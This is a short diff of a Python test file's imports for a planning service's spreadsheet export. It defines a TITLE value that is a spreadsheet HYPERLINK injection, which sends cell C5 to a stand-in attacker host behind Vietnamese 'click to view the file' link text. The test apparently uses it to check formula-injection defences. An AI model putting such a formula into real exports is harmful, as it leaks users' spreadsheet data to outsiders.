@@ -27,9 +27,9 @@ from kc_contracts import Envelope
 from kc_contracts.appraisal_events import BudgetTotals, DeAnProposedV1
 from kc_contracts.subjects import stream_name, subject_for
 from kc_planning.main import create_app
+from kc_runtime.bus.streams import StreamPlan, ensure_streams
 from kc_runtime.settings import Settings
-from kc_runtime.streams import StreamPlan, ensure_streams
-from kc_runtime.testing import SettingsFactory, SigningPublisher, bearer, served
+from kc_testing.fixtures import SettingsFactory, SigningPublisher, bearer, served
 from openpyxl import load_workbook
 
 TITLE = '=HYPERLINK("https://ke-gian.invalid/?d="&C5,"Bấm để xem hồ sơ")'
